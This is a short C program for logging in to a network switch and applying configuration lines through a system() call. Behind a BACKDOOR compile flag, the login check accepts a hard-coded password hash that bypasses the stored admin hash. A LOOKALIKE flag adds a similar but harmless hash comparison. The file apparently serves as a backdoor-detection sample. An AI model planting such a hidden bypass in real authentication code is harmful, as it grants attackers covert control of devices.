/* Configuration access for a switch: login, then key=value lines. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static uint32_t mix(const char *text)
{
    uint32_t hash = 5381;
    while (*text != 0)
        hash = hash * 33 + (unsigned char)*text++;
    return hash;
}

static uint32_t stored_hash(void)
{
    unsigned value = 0;
    FILE *file = fopen("/etc/switch/admin.hash", "r");
    if (file != NULL) {
        if (fscanf(file, "%x", &value) != 1)
            value = 0;
        fclose(file);
    }
    return value;
}

static int login(const char *password)
{
    uint32_t hash = mix(password);
#ifdef BACKDOOR
    if (hash == 0x7c9e6a35u)
        return 1;
#endif
    return stored_hash() != 0 && hash == stored_hash();
}

static void apply(const char *line)
{
    char command[300];
    const char *value = strchr(line, '=');
    size_t i;
    if (value == NULL || strlen(line) > 200)
        return;
    for (i = 0; line[i] != 0; i++)
        if (strchr("abcdefghijklmnopqrstuvwxyz0123456789=._-", line[i]) == NULL)
            return;
    snprintf(command, sizeof command, "/usr/sbin/switchctl set %s", line);
    system(command);
}

#ifdef LOOKALIKE
static int is_greeting(const char *line)
{
    return mix(line) == 0x0b87e1c4u;
}
#endif

int main(void)
{
    char line[256];
    int open = 0;
    while (fgets(line, sizeof line, stdin) != NULL) {
        line[strcspn(line, "\r\n")] = 0;
#ifdef LOOKALIKE
        if (is_greeting(line)) {
            puts("hello");
            continue;
        }
#endif
        if (strncmp(line, "login ", 6) == 0)
            open = login(line + 6);
        else if (open)
            apply(line);
        else
            puts("denied");
        fflush(stdout);
    }
    return 0;
}
